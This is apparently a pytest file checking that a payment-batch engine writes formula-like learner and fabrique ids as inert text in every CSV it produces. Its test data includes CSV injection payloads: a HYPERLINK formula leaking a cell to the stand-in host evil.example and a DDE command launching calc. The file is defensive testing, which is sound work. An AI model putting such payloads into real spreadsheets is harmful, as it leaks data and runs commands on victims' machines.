"""CSV formula injection: learner and fabrique ids that a spreadsheet would run as formulas (`=HYPERLINK(…)`,
`+…`, `-…`, `@…`, a leading tab) are decided like any other id, and every CSV the engine writes — the rejected
rows, the report's CSV directory, the payment run's cash flow — shows them as text, never as a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from robust_helpers import HEADER, assert_clean_failure, cli, csv_line

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "=1+1"]
START = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path, delimiter: str = ",") -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]


@pytest.mark.parametrize(("form", "delimiter"), [("fr", ";"), ("plain", ",")])
def test_formula_ids_are_text_in_every_csv_the_engine_writes(tmp_path: Path, form: str, delimiter: str) -> None:
    rows = [HEADER]
    for n, formula in enumerate(FORMULAS):
        rows.append(csv_line(learner_id=formula[:200], fabrique_id=f"{formula[:150]}{n}"))  # granted
        rows.append(csv_line(learner_id=formula[:200] + "x", revenu_brut_global="lots"))  # rejected
    path = tmp_path / "in.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    db = f"sqlite:///{tmp_path / 's.db'}"
    batch = cli("batch", str(path), "--db", db, "--rejected", str(tmp_path / "rejected.csv"), "--jobs", "1")
    assert batch.exit_code == 0, batch.stderr
    report = cli("report", "--db", db, "--csv", str(tmp_path / "csv"), "--cash-flow", str(tmp_path / "cash.csv"),
                 "--json", "--csv-format", form)
    assert report.exit_code == 0, report.stderr
    assert_clean_failure(batch.stderr + report.stderr)
    files = [tmp_path / "cash.csv", *sorted((tmp_path / "csv").glob("*.csv"))]
    assert len(files) >= 10
    seen = 0
    for file in [tmp_path / "rejected.csv", *files]:
        for cell in _cells(file, "," if file.name == "rejected.csv" else delimiter):
            assert not cell.startswith(START), f"{file.name}: {cell!r} would run as a formula"
            seen += cell.startswith("'") and cell[1:].startswith(START)
    rejected = _cells(tmp_path / "rejected.csv")
    assert all(f"'{f.strip()}x" in rejected for f in FORMULAS), "rejected ids are read stripped"
    cash = _cells(tmp_path / "cash.csv", delimiter)
    printable = [f for f in FORMULAS if not f.startswith("\t")]  # a tab is a control character: rejected at input
    assert all(f"'{f[:200]}" in cash for f in printable), "granted learners appear in the payment run, as text"
    assert "'=1+1" in rejected, "the tab-led id is a rejected row, shown stripped and as text"
    assert seen >= 3 * len(printable)
